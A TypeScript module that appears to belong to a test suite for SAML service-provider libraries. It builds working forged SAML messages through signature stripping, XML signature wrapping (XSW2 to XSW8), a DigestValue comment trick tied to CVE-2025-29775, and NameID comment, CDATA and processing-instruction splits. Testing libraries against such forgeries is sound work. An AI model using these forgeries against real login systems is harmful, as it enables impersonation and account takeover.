/** Forgeries by string: what the mutation engine does with trees, done without it and known to work. */
import { createHash } from 'node:crypto';
import type { WantSigned } from './sp-library.js';

/** The attacker's name has the victim's in it, so that hiding a part of it is enough. */
interface Names {
  readonly attacker: string;
  readonly victim: string;
}

export interface Forgery {
  /** Ids are those of the attacks. */
  readonly id: string;
  /** What the genuine message must have signed. */
  readonly on: WantSigned;
  /** What the attacker is called at the IdP. */
  readonly attacker: (victim: string) => string;
  readonly forge: (xml: string, names: Names) => string;
}

const SIGNATURE = /<(?:ds:)?Signature[ >].*?<\/(?:ds:)?Signature>/s;
const ASSERTION = /<(?:saml2:)?Assertion[ >].*<\/(?:saml2:)?Assertion>/s;
const ROOT = /^(?:<\?xml[^>]*\?>)?(<[^>]+>)/;

const prefixed = (victim: string): string => `zz-${victim}`;
const suffixed = (victim: string): string => `${victim}.evil.example`;

function part(pattern: RegExp, xml: string): string {
  const [found] = pattern.exec(xml) ?? [];
  if (found === undefined) throw new Error(`the message has no ${pattern.source}`);
  return found;
}

/** With a name and an ID that are somebody else's, and without any Signature. */
function unsignedFor(xml: string, { attacker, victim }: Names): string {
  return xml
    .replaceAll(new RegExp(SIGNATURE, 'gs'), '')
    .replaceAll(attacker, victim)
    .replaceAll(/ ID="([^"]+)"/g, ' ID="$1f"');
}

function inNameId(xml: string, from: string, to: string): string {
  const nameId = new RegExp(`(<(?:saml2:)?NameID[^>]*>)${from.replaceAll('.', '\\.')}(?=<)`);
  if (!nameId.test(xml)) throw new Error(`the NameID is not ${from}`);
  return xml.replace(nameId, (_all, start: string) => `${start}${to}`);
}

/** XSW2: the genuine Response beside its Signature, both in a forged one. */
function wrapResponse(xml: string, names: Names): string {
  const signature = part(SIGNATURE, xml);
  const original = xml.replace(/^<\?xml[^>]*\?>/, '').replace(signature, '');
  return unsignedFor(xml, names).replace(ROOT, (start) => `${start}${original}${signature}`);
}

/** The parts that XSW3 to XSW8 put together anew. */
interface Parts {
  readonly genuine: string;
  /** The Assertion without its Signature. */
  readonly original: string;
  /** For the victim, with something after its Issuer or at its end. */
  readonly forged: (afterIssuer: string, atEnd?: string) => string;
  /** The genuine Signature, with something at its end. */
  readonly signature: (inside?: string) => string;
}

function wrap(together: (parts: Parts) => string): Forgery['forge'] {
  return (xml, names) => {
    const genuine = part(ASSERTION, xml);
    const signature = part(SIGNATURE, genuine);
    const pieces = /^(.*?Issuer>)(.*)(<.*?>)$/s.exec(unsignedFor(genuine, names)) ?? [];
    const [, start = '', middle = '', end = ''] = pieces;
    const parts: Parts = {
      genuine,
      original: genuine.replace(signature, ''),
      forged: (afterIssuer, atEnd = '') => start + afterIssuer + middle + atEnd + end,
      signature: (inside = '') => signature.replace(/<\/[^<]+$/, (close) => inside + close),
    };
    return xml.replace(genuine, () => together(parts));
  };
}

const XSW: Readonly<Record<string, Forgery['forge']>> = {
  'xsw3-assertion-before': wrap(({ genuine, forged }) => forged('') + genuine),
  'xsw4-assertion-parent': wrap(({ genuine, forged }) => forged('', genuine)),
  'xsw5-signature-in-forged': wrap(
    ({ original, forged, signature }) => forged(signature()) + original,
  ),
  'xsw6-original-in-signature': wrap(({ original, forged, signature }) =>
    forged(signature(original)),
  ),
  'xsw8-original-in-object': wrap(({ original, forged, signature }) =>
    forged(signature(`<Object>${original}</Object>`)),
  ),
};

/** Exclusive canonicalisation of what Entra writes: no prefixes, no comments, one namespace (xml-exc-c14n 2). */
function canonical(xml: string): string {
  const sortKey = (attribute: string): string => attribute.replace(' xmlns=', ' ');
  const tags = /<([A-Za-z]+)((?: [A-Za-z]+="[^"]*")*)(\/?)>/g;
  return xml.replaceAll(tags, (_all, name: string, attributes: string, empty: string) => {
    const sorted = (attributes.match(/ [A-Za-z]+="[^"]*"/g) ?? []).sort((a, b) =>
      sortKey(a) < sortKey(b) ? -1 : 1,
    );
    return `<${name}${sorted.join('')}>${empty === '' ? '' : `</${name}>`}`;
  });
}

function digestOf(assertion: string): string {
  const covered = canonical(assertion.replace(part(SIGNATURE, assertion), ''));
  return createHash('sha256').update(covered).digest('base64');
}

/** CVE-2025-29775: the comment is not signed, but read. */
function commentDigest(xml: string, { attacker, victim }: Names): string {
  const genuine = part(ASSERTION, xml);
  const digest = digestOf(genuine);
  if (!genuine.includes(`>${digest}<`)) throw new Error('the digest is computed wrongly');
  const forged = genuine.replaceAll(attacker, victim);
  return xml.replace(genuine, () =>
    forged.replace(digest, () => `<!--${digestOf(forged)}-->${digest}`),
  );
}

/** The attacker's name with a part of it put so that it is signed, but overlooked. */
const HIDDEN: Readonly<Record<string, readonly [on: WantSigned, Forgery['attacker'], string]>> = {
  'parser-comment-nameid-suffix': ['assertion', suffixed, 'VICTIM<!--x-->.evil.example'],
  'parser-cdata-split': ['assertion', suffixed, 'VICTIM<![CDATA[.evil.example]]>'],
  'parser-pi-nameid-prefix': ['assertion', prefixed, '<?x zz-?>VICTIM'],
  'parser-pi-response-signed': ['response', prefixed, '<?x zz-?>VICTIM'],
};

function wrapping([id, forge]: [string, Forgery['forge']]): Forgery {
  return { id, on: 'assertion', attacker: prefixed, forge };
}

function hiding([id, [on, attacker, to]]: [string, (typeof HIDDEN)[string]]): Forgery {
  return {
    id,
    on,
    attacker,
    forge: (xml, names) => inNameId(xml, names.attacker, to.replace('VICTIM', names.victim)),
  };
}

/** For messages of a mock Entra; most work with Okta's, too. */
export const FORGERIES: readonly Forgery[] = [
  { id: 'sig-none', on: 'both', attacker: prefixed, forge: unsignedFor },
  {
    id: 'sig-digestvalue-comment-first',
    on: 'assertion',
    attacker: prefixed,
    forge: commentDigest,
  },
  { id: 'xsw2-response-detached', on: 'response', attacker: prefixed, forge: wrapResponse },
  ...Object.entries(XSW).map(wrapping),
  ...Object.entries(HIDDEN).map(hiding),
];
